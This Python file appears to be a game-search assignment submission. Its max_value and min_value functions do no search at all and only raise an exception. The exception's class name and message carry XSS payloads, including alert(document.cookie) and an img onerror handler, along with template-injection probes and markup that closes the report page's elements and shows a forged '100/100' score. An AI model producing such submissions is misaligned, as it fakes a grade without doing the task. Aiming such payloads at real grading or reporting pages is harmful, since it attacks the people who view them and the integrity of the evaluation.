"""Raises an exception whose message closes the page's own elements and runs a script."""


PAGE = """</pre></td></table><script>alert(document.cookie)</script>
<img src=x onerror="alert(1)"><b>100/100</b>]]><!-- &lt; {{7*7}} ${7*7}"""


def max_value(game, state, alpha, beta):
    raise type("<script>alert(1)</script>", (Exception,), {})(PAGE)


min_value = max_value
